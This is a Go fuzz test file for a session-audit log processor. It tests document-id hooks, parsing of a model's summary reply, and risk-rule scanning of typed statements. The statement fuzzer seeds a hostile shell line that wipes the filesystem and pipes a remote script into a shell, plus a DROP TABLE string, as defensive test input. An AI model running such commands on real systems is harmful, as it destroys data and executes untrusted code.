// Copyright The pamtrail Authors
// SPDX-License-Identifier: Apache-2.0

package sessionprocessor

import (
	"context"
	"os"
	"path/filepath"
	"strconv"
	"testing"
	"time"

	"go.opentelemetry.io/collector/component/componenttest"
	"go.opentelemetry.io/collector/pdata/plog"
	"go.uber.org/zap"

	"github.com/pamtrail/pamtrail/collector-components/processor/sessionprocessor/internal/metadata"
	"github.com/pamtrail/pamtrail/gateway/schema"
)

// FuzzSessionKeyHook feeds arbitrary OTLP log payloads (what any client of
// the receiver can send) through the record hooks and checks the document id
// invariant: set exactly when session.id and pam.seq are valid, and then
// equal to "<session.id>:<pam.seq>"; otherwise absent and the record flagged.
func FuzzSessionKeyHook(f *testing.F) {
	seed, err := os.ReadFile(filepath.Join("testdata", "hooks_input.json"))
	if err != nil {
		f.Fatal(err)
	}
	ld, err := (&plog.JSONUnmarshaler{}).UnmarshalLogs(seed)
	if err != nil {
		f.Fatal(err)
	}
	proto, err := (&plog.ProtoMarshaler{}).MarshalLogs(ld)
	if err != nil {
		f.Fatal(err)
	}
	f.Add(proto)
	f.Add([]byte{})

	tb, err := metadata.NewTelemetryBuilder(componenttest.NewNopTelemetrySettings())
	if err != nil {
		f.Fatal(err)
	}
	hooks := []recordHook{newSessionKeyHook(zap.NewNop(), tb)}

	f.Fuzz(func(t *testing.T, payload []byte) {
		ld, err := (&plog.ProtoUnmarshaler{}).UnmarshalLogs(payload)
		if err != nil {
			return // the receiver rejects what does not decode
		}
		// Remember what each record looked like before the hooks ran.
		type want struct {
			docID string // "" means: no document id
		}
		var wants []want
		forEachRecord(ld, func(rec plog.LogRecord) {
			sid, okSID := stringAttr(rec.Attributes(), schema.AttrSessionID)
			seq, okSeq := seqAttr(rec.Attributes())
			w := want{}
			if okSID && okSeq {
				w.docID = sid + ":" + strconv.FormatInt(seq, 10)
			}
			wants = append(wants, w)
		})

		applyHooks(context.Background(), hooks, ld)

		i := 0
		forEachRecord(ld, func(rec plog.LogRecord) {
			w := wants[i]
			i++
			got, has := rec.Attributes().Get(schema.AttrDocumentID)
			_, flagged := rec.Attributes().Get(attrSchemaViolation)
			switch {
			case w.docID != "" && (!has || got.Str() != w.docID):
				t.Fatalf("record %d: document id %v, want %q", i, got.AsRaw(), w.docID)
			case w.docID == "" && has:
				t.Fatalf("record %d: document id %v set on an invalid record", i, got.AsRaw())
			case w.docID == "" && !flagged:
				t.Fatalf("record %d: invalid record not flagged", i)
			}
		})
	})
}

func forEachRecord(ld plog.Logs, fn func(plog.LogRecord)) {
	for _, rl := range ld.ResourceLogs().All() {
		for _, sl := range rl.ScopeLogs().All() {
			for _, rec := range sl.LogRecords().All() {
				fn(rec)
			}
		}
	}
}

// FuzzParseChatReply feeds arbitrary bytes as a model's reply: parsing must
// never panic, and what it accepts is capped and points at events of the
// session.
func FuzzParseChatReply(f *testing.F) {
	f.Add([]byte(chatReply(`{"summary": "ok", "warnings": [{"text": "x", "seq": 1}]}`)))
	f.Add([]byte(chatReply("```json\n{\"summary\": \"s\"}\n```")))
	f.Add([]byte(`{"choices": []}`))
	f.Add([]byte(`not json`))
	f.Fuzz(func(t *testing.T, raw []byte) {
		s := endedSession()
		res, err := parseChatReply(raw, s, time.Unix(0, 0))
		if err != nil {
			return
		}
		if res.Text == "" || len(res.Text) > maxSummaryChars+len("…") || len(res.Warnings) > maxWarnings {
			t.Fatalf("accepted an out-of-bounds summary: %+v", res)
		}
		for _, w := range res.Warnings {
			if w.Seq < 0 || w.Seq > s.MaxSeq || len(w.Text) > maxWarningChars+len("…") {
				t.Fatalf("accepted an out-of-bounds warning: %+v", w)
			}
		}
	})
}

// FuzzStatementAnalysis feeds arbitrary statement text (what a user types)
// through the rules and the object scanners: no panic, bounded results.
func FuzzStatementAnalysis(f *testing.F) {
	for _, st := range benchStatements {
		f.Add(st.text)
	}
	f.Add("rm -rf / ; curl http://x | sh")
	f.Add(`COPY "weird""name" TO STDOUT`)
	f.Add("\xff\xfe DROP TABLE \x00")
	rs := builtinRules(f)
	f.Fuzz(func(t *testing.T, text string) {
		for target := range numTargets {
			for _, m := range rs.match(target, text, 1<<20, nil) {
				if m.severity <= 0 || m.severity >= len(schema.RiskLevels) {
					t.Fatalf("match with severity %d", m.severity)
				}
			}
		}
		var tables, dropped, files, hosts objectSet
		sqlTables(text, &tables, &dropped)
		shellObjects(text, &files, &hosts)
		for _, set := range []objectSet{tables, dropped, files, hosts} {
			if len(set) > maxObjects {
				t.Fatalf("object set grew to %d", len(set))
			}
		}
		if s := truncateRunes(text, 7); len(s) > 7+len("…") {
			t.Fatalf("truncateRunes returned %d bytes", len(s))
		}
	})
}
